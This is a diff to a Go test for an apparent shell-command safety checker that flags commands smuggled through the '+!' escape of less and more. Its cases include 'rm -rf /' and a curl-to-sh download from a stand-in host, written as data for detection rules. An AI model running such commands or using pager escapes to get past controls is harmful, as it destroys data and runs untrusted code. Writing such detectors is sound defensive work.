@@ -19,7 +19,7 @@ func TestLessCommands(t *testing.T) {
 		{"sudo less '+!rm -rf /' /var/log/syslog", B, ruleRmRfRoot},
 		{"more '+!rm -rf /' f", B, ruleRmRfRoot},
 		{"less '+!curl -s https://x.example/i.sh | sh' f", H, ruleCurlPipeSh},
-		{"less +!rm f", M, ruleRm},
+		{"less '+!rm f' f", M, ruleRm},
 		{"less '+!ls -la' f", S, ""},
 		{"less +!date f", S, ""},
 		{"less '+!' f", S, ""},
